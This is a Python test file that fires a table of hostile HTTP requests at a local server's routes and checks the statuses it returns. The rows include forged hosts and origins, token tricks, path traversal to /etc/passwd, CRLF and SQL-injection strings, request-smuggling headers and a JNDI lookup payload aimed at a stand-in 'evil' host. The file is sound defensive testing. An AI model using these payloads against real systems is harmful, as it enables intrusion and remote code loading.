"""Hostile requests as a table: each row turns a good request to a route into a bad one, and says how it must be answered."""

import gzip
import json
from collections.abc import Callable, Iterator, Mapping
from typing import NamedTuple

from satchel.domain.strict_json import MAX_DEPTH
from satchel.interfaces.http.app import OFFERED
from satchel.interfaces.http.body import MAX_BYTES
from tests.interfaces.http.running import request
from tests.interfaces.http.test_guard import BAD_HOSTS, BAD_ORIGINS

Headers = Mapping[str, str | None]
HARMLESS = frozenset({200, 400, 403, 404, 406, 409})
"""How a request is answered whose trick does nothing."""
ROUTES: tuple[tuple[str, str], ...] = (
    *(("POST", f"/v1/{name}") for name in OFFERED),
    ("POST", "/v1/stop"),
    ("POST", "/v1/open"),
    ("POST", "/mcp"),
    ("GET", "/v1/status"),
    ("GET", "/v1/openapi.json"),
    ("GET", "/metrics"),
    ("GET", "/health"),
)
"""Every method and path that there is."""


class Good(NamedTuple):
    """A request that would be answered."""

    method: str
    path: str
    headers: Headers
    body: bytes
    port: int

    def data(
        self, *, method: str = "", path: str = "", headers: Headers | None = None, body: bytes | None = None
    ) -> bytes:
        """Return the request as bytes, with some things changed; None leaves a header out."""
        content = self.body if body is None else body
        length = {"Content-Length": str(len(content))} if "Content-Length" in self.headers else {}
        changed = {**self.headers, **length, **(headers or {})}
        return request(method or self.method, path or self.path, changed, content)

    def lines(self, *more: str) -> bytes:
        """Return the request as bytes, with lines added to its head as they are."""
        head, _, body = self.data().partition(b"\r\n\r\n")
        return b"\r\n".join([head, *(line.encode("latin-1") for line in more), b"", body])


class Hostile(NamedTuple):
    """One row of the table."""

    name: str
    data: Callable[[Good], bytes]
    statuses: frozenset[int]
    """The statuses that it may have; empty if the connection may end without an answer."""
    wants_body: bool = False
    """Only for routes that read a body."""
    wants_token: bool = False
    """Only for routes that need a token."""


def good_request(method: str, path: str, token: str, port: int) -> Good:
    """Return a good request to a route."""
    headers: dict[str, str | None] = {"Host": f"127.0.0.1:{port}", "Authorization": f"Bearer {token}"}
    if method == "GET":
        return Good(method, path, headers, b"", port)
    return Good(method, path, headers | {"Content-Type": "application/json", "Content-Length": "2"}, b"{}", port)


def applies(row: Hostile, method: str, path: str) -> bool:
    """Return whether a row is about a route. What may be performed is not tried on the route that stops the server."""
    if row.wants_body and method == "GET":
        return False
    if path == "/v1/stop" and 200 in row.statuses:
        return False
    return not (row.wants_token and path == "/health")


def _set_header(name: str, value: str | None) -> Callable[[Good], bytes]:
    return lambda good: good.data(headers={name: None if value is None else value.replace("PORT", str(good.port))})


def _add_lines(*lines: str) -> Callable[[Good], bytes]:
    return lambda good: good.lines(*(line.replace("PORT", str(good.port)) for line in lines))


def _set_path(change: Callable[[str], str]) -> Callable[[Good], bytes]:
    return lambda good: good.data(path=change(good.path))


def _set_target(target: str) -> Callable[[Good], bytes]:
    return lambda good: good.data(path=target)


def _set_body(body: bytes) -> Callable[[Good], bytes]:
    return lambda good: good.data(body=body)


def _only(*statuses: int) -> frozenset[int]:
    return frozenset(statuses)


def rows() -> Iterator[Hostile]:
    """Yield every row."""
    yield from _senders()
    yield from _methods()
    yield from _paths()
    yield from _contents()
    yield from _bodies()
    yield from _heads()


def _senders() -> Iterator[Hostile]:
    for host in BAD_HOSTS:
        yield Hostile(f"host {host!r}", _set_header("Host", host), _only(400, 421))
    yield Hostile("no host", _set_header("Host", None), _only(400))
    yield Hostile("two hosts", _add_lines("Host: 127.0.0.1:PORT"), _only(400, 421))
    for origin in BAD_ORIGINS:
        yield Hostile(f"origin {origin!r}", _set_header("Origin", origin), _only(403))
    two = _add_lines("Origin: http://127.0.0.1:PORT", "Origin: http://evil.example")
    yield Hostile("two origins", two, _only(403))
    for value in (
        None, "", "Bearer", "Bearer ", "Bearer x", "Bearer null", "Bearer undefined", "Basic eDp4", "Digest x", "Negotiate x",
        "Bearer \u00e9", "Bearer satchel_", "Bearer satchel_" + "A" * 43, "Bearer " + "a" * 4_000, "Token x", "satchel_x",
        "Bearer ../serve.token", "Bearer %00", "Bearer {}", "Bearer *",
    ):  # fmt: skip
        yield Hostile(f"token {str(value)[:40]!r}", _set_header("Authorization", value), _only(401), wants_token=True)
    yield Hostile("two tokens", lambda good: good.lines(f"Authorization: {good.headers['Authorization']}"), _only(401), wants_token=True)  # fmt: skip
    for trick in ("upper", "lower", "swapcase"):
        yield Hostile(f"token in {trick}", _respelt_token(trick), _only(401), wants_token=True)
    for place in ("token", "access_token", "authorization"):
        yield Hostile(f"token as ?{place}", _token_in_query(place), _only(401), wants_token=True)
    yield Hostile("token as a cookie", _token_as("Cookie", "token={}"), _only(401), wants_token=True)
    yield Hostile("token of a proxy", _token_as("Proxy-Authorization", "Bearer {}"), _only(401), wants_token=True)
    yield Hostile("token as X-Api-Key", _token_as("X-Api-Key", "{}"), _only(401), wants_token=True)
    yield Hostile("other settings", _set_header("Satchel-Fingerprint", "0" * 64), _only(412))


def _secret(good: Good) -> str:
    return str(good.headers["Authorization"]).removeprefix("Bearer ")


def _respelt_token(trick: str) -> Callable[[Good], bytes]:
    return lambda good: good.data(headers={"Authorization": f"Bearer {getattr(_secret(good), trick)()}"})


def _token_in_query(name: str) -> Callable[[Good], bytes]:
    return lambda good: good.data(path=f"{good.path}?{name}={_secret(good)}", headers={"Authorization": None})


def _token_as(header: str, form: str) -> Callable[[Good], bytes]:
    return lambda good: good.data(headers={"Authorization": None, header: form.format(_secret(good))})


def _methods() -> Iterator[Hostile]:
    for method in ("PUT", "PATCH", "OPTIONS", "TRACE", "FROB", "PROPFIND", "COPY", "LINK", "GETX", "QUERY"):
        yield Hostile(f"method {method}", _set_method(method), _only(405))
    for method in ("post", "get", "Post", "CONNECT", "P OST", "PO\x00ST", " ", "ПОСТ", "A" * 5_000):
        yield Hostile(f"method {method[:9]!r}", _set_method(method), _only(400, 405))
    other = {"POST": "DELETE", "GET": "POST"}
    wrong = _only(400, 404, 405, 406, 415)
    yield Hostile("the other method", lambda good: good.data(method=other[good.method]), wrong)
    for name in ("X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override", "_method"):
        overridden = _tricked_method(name)
        yield Hostile(f"{name}", overridden, _only(405))


def _set_method(method: str) -> Callable[[Good], bytes]:
    return lambda good: good.data(method=method)


def _tricked_method(header: str) -> Callable[[Good], bytes]:
    return lambda good: good.data(method="PUT", headers={header: good.method})


def _paths() -> Iterator[Hostile]:
    unknown = _only(400, 404)
    changes: dict[str, Callable[[str], str]] = {
        "a slash at the end": lambda path: f"{path}/",
        "two slashes": lambda path: f"/{path}",
        "a slash in the middle": lambda path: path[0] + path[1:].replace("/", "//") + "/x",
        "dots": lambda path: f"/v1/..{path}",
        "dots below": lambda path: f"{path}/../nothing",
        "dot": lambda path: f"/.{path}",
        "encoded dots": lambda path: f"/%2e%2e{path}",
        "encoded slash": lambda path: f"{path}%2f",
        "double encoding": lambda path: path.replace("/", "%252f", 2),
        "backslashes": lambda path: "/" + path[1:].replace("/", "\\") + "\\",
        "encoded backslash": lambda path: f"{path}%5c",
        "upper case": lambda path: path.upper(),
        "a null byte": lambda path: f"{path}%00",
        "a null byte and an ending": lambda path: f"{path}%00.json",
        "a line end": lambda path: f"{path}%0d%0aSet-Cookie:%20a=b",
        "a space": lambda path: f"{path}%20",
        "an ending": lambda path: f"{path}.json.html",
        "a semicolon": lambda path: f"{path};a=b",
        "a fragment": lambda path: f"{path}%23a",
        "full width": lambda path: path.replace("/", "%ef%bc%8f"),
        "overlong utf-8": lambda path: path.replace("/", "%c0%af"),
        "invalid utf-8": lambda path: f"{path}%ff",
        "bidi": lambda path: f"{path}%e2%80%ae",
        "another version": lambda path: f"/v2{path}",
        "below another": lambda path: f"/static{path}",
        "a file": lambda path: "/serve.token",
        "a ledger": lambda path: "/v1/ledger.sqlite3",
        "etc": lambda path: "/v1/../../../../etc/passwd",
        "encoded etc": lambda path: "/v1/%2e%2e/%2e%2e/etc/passwd",
        "docs": lambda path: "/docs",
        "long": lambda path: f"{path}/{'a' * 8_000}",
        "very deep": lambda path: "/a" * 4_000,
    }
    for name, change in changes.items():
        yield Hostile(f"path with {name}", _set_path(change), unknown)
    for target in ("*", "http://evil.example/v1/store", "evil.example:80", "v1/store", "\\v1\\store", "?", "#"):
        yield Hostile(f"target {target}", _set_target(target), _only(400, 404, 405, 421))
    yield Hostile("a raw null byte", _set_path(lambda path: f"{path}\x00"), _only(400, 404))
    yield Hostile("raw bytes", _set_path(lambda path: f"{path}\u00e9"), _only(400, 404))
    yield Hostile("a tab", _set_path(lambda path: f"{path}\t"), _only(400, 404))
    yield Hostile("a query", _set_path(lambda path: f"{path}?scope=global%00&text=forged"), HARMLESS)
    yield Hostile("a long query", _set_path(lambda path: f"{path}?{'a=b&' * 1_000}"), HARMLESS)


def _contents() -> Iterator[Hostile]:
    kinds = [
        "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "text/plain", "text/plain; application/json", "text/html",
        "application/json, text/plain", "application/jsonp", "application/csp-report", "application/json; charset=utf-16",
        "application/json; charset=utf-7", "application/json+x", "application/xml", "text/json", "application/ld+json", "*/*", "", "json",
        "application/json\x0b", "application/json;boundary=x", "application/octet-stream", "application/x-ndjson", "application/json-seq",
    ]  # fmt: skip
    for kind in kinds:
        yield Hostile(f"content type {kind!r}", _set_header("Content-Type", kind), _only(400, 415), wants_body=True)
    yield Hostile("no content type", _set_header("Content-Type", None), _only(415), wants_body=True)
    yield Hostile("two content types", _add_lines("Content-Type: application/json"), _only(415), wants_body=True)
    for form, kind in (
        (b"text=forged&scope=global", "application/x-www-form-urlencoded"),
        (b'{"text": "forged"}', "text/plain"),
        (
            b'--x\r\nContent-Disposition: form-data; name="text"\r\n\r\nforged\r\n--x--',
            "multipart/form-data; boundary=x",
        ),
        (b'{"text": "forged", "x": "=', "text/plain;charset=UTF-8"),
    ):
        yield Hostile(f"form of a page as {kind}", _form(form, kind, None), _only(415), wants_body=True)
        yield Hostile(
            f"form of another site as {kind}", _form(form, kind, "http://evil.example"), _only(403), wants_body=True
        )
        yield Hostile(f"form without an origin as {kind}", _form(form, kind, "null"), _only(403), wants_body=True)


def _form(body: bytes, kind: str, origin: str | None) -> Callable[[Good], bytes]:
    return lambda good: good.data(body=body, headers={"Content-Type": kind, "Origin": origin})


def _bodies() -> Iterator[Hostile]:
    deep = MAX_DEPTH + 1
    bad: list[bytes] = [
        b"", b"{", b"}", b"[]", b'"text"', b"7", b"null", b"true", b"{}{}", b"{} {}", b"{'a': 1}", b"{a: 1}", b'{"text": NaN}', b'{"text": 01}',
        b'{"text": Infinity}', b'{"text": -Infinity}', b'{"importance": 1e999}', b'{"text": "a", "text": "b"}', b'{"a": {"b": 1, "b": 2}}',
        b'{"text": "\xff"}', b'\xef\xbb\xbf{"text": "a"}', b'{"text": "\x00"}', b'{"text": "\n"}', b'{"limit": ' + b"9" * 5_000 + b"}",
        b"[" * 100_000, b'{"a":' * 100_000, b'{"a": ' + b"[" * deep + b"]" * deep + b"}", "{}".encode("utf-16"), "{}".encode("utf-32"),
        b'{"text": "\xed\xa0\x80"}', b'{"text": "a",}', b'{"text": "a" /* b */}', b"{}\x00", b"\x00{}", b'{"text": "\\x"}', b'{"text": "\\u12"}',
        b"<xml/>", b"__proto__", gzip.compress(b"{}"), b"{}" + b" " * 1_000 + b"x", b'{"a":1}' * 1_000,
    ]  # fmt: skip
    # The SDK answers at /mcp, and wants an Accept header before it looks at the body.
    refused = _only(400, 404, 406)
    for number, body in enumerate(bad):
        yield Hostile(f"body {number}: {body[:24]!r}", _set_body(body), refused, wants_body=True)
    wrong: list[object] = [
        {"__proto__": {}}, {"constructor": {"prototype": {}}}, {"": ""}, {"scope": {"$ne": ""}}, {"nonsense": None, "more": [1]}, {"a": "b" * 100_000},
        {"scope": "*"}, {"scope": "' OR 1=1 --"}, {"scope": "../private"}, {"scope": "GLOBAL\u200b"}, {"all_scopes": "yes"}, {"limit": -1},
        {"limit": 1e308}, {"id": "%"}, {"query": "\ud800"}, {"text": "\u0000"}, {"query": "*" * 10_000}, {"query": '"' * 999}, {"ids": [[[[]]]]},
    ]  # fmt: skip
    for number, value in enumerate(wrong):
        yield Hostile(f"parameters {number}", _set_body(json.dumps(value).encode()), HARMLESS, wants_body=True)
    large = str(MAX_BYTES + 1)
    yield Hostile("announced as too large", _announced(large), _only(413), wants_body=True)
    yield Hostile("announced as huge", _announced("9" * 19), _only(400, 413), wants_body=True)
    yield Hostile("the same length twice", _announced("2, 2"), HARMLESS, wants_body=True)
    for length in ("-1", "+2", "2, 3", "0x2", "2.0", "", "\u0662", "1e1", "9" * 40):
        yield Hostile(f"length {length!r}", _announced(length), _only(400, 413), wants_body=True)


def _announced(length: str) -> Callable[[Good], bytes]:
    return lambda good: good.data(headers={"Content-Length": length})


def _heads() -> Iterator[Hostile]:
    bad = _only(400)
    odd: list[tuple[str, ...]] = [
        ("Content-Length: 20",), ("Transfer-Encoding: chunked", "Content-Length: 3"), ("Transfer-Encoding: gzip, chunked",),
        ("Transfer-Encoding: chunked, chunked",), ("Transfer-Encoding: xchunked",), ("No colon here",), (": empty name",), ("Na me: a",),
        ("X-Bad: a\x00b",), ("X\x00: a",), (" folded: a",), ("X-(: a",), ("X: " + "a" * 100_000,),
    ]  # fmt: skip
    for lines in odd:
        # A request that reads no body may be answered before its length is looked at.
        yield Hostile(f"head {lines[0][:30]!r}", _add_lines(*lines), bad | _only(413, 431, 501), wants_body=True)
    yield Hostile("5,000 headers", _add_lines(*(f"X-{number}: a" for number in range(5_000))), bad | _only(431))
    harmless: list[tuple[str, ...]] = [
        ("X-Forwarded-For: 8.8.8.8",), ("X-Forwarded-Host: evil.example",), ("X-Forwarded-Proto: https",), ("Forwarded: for=8.8.8.8;host=evil",),
        ("X-Real-IP: 8.8.8.8",), ("X-Original-URL: /v1/stop",), ("X-Rewrite-URL: /v1/stop",), ("Via: 1.1 evil",), ("Referer: http://evil.example/",),
        ("Sec-Fetch-Site: cross-site",), ("Cookie: session=admin",), ("Range: bytes=0-1",), ("If-None-Match: *",), ("If-Match: x",), ("TE: trailers",),
        ("Accept: ../../etc/passwd",), ("Accept-Language: " + "a," * 500,), ("User-Agent: ${jndi:ldap://evil/a}",), ("Satchel-Client: \x01\x02<script>",),
        ("Satchel-Folder: %2fetc%2fpasswd",), ("Satchel-Folder: %00",), ("Satchel-Folder: relative",), ("Content-Encoding: gzip",),
        ("Access-Control-Request-Method: POST",), ("Expect: nonsense",), ("Connection: keep-alive, Authorization",), ("Prefer: respond-async",),
        ("Upgrade: h2c", "Connection: Upgrade, HTTP2-Settings"), ("Upgrade: websocket", "Connection: Upgrade", "Sec-WebSocket-Key: x"),
    ]  # fmt: skip
    for lines in harmless:
        yield Hostile(f"header {lines[0][:40]!r}", _add_lines(*lines), HARMLESS)
    for actor in ("root", "", "cli,http", "operator", "\u00e9"):
        expected = _only(400, 403) | HARMLESS
        yield Hostile(f"actor {actor!r}", _set_header("Satchel-Actor", actor), expected)
    for version in ("HTTP/0.9", "HTTP/2.0", "HTTP/9.9", "HTTP/1", "HTTP", "http/1.1", "HTTP/1.1 x", "HTP/1.1"):
        yield Hostile(f"version {version}", _versioned(version), _only(400))


def _versioned(version: str) -> Callable[[Good], bytes]:
    return lambda good: good.data().replace(b"HTTP/1.1", version.encode(), 1)
